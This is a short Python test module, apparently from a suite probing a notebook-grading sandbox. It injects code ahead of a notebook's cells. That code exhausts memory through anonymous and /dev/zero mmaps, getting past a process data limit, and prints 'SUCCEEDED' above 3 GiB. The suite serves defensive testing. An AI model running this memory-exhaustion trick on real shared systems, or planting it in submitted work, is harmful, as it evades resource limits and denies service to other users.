"""Takes memory that a limit on a process's data does not count: maps without a file, and of /dev/zero."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import mmap, os
kept, size = [], 64 << 20
def nameless():
    return mmap.mmap(-1, size)
def of_zeros():
    return mmap.mmap(os.open('/dev/zero', os.O_RDWR), size)
for way in nameless, of_zeros:
    try:
        while True:
            kept.append(way())
            kept[-1][::4096]  # reading is enough to make the pages
    except (OSError, ValueError) as error:
        print(error)
if len(kept) * size > 3 << 30: print('SUCCEEDED')
""",
    )
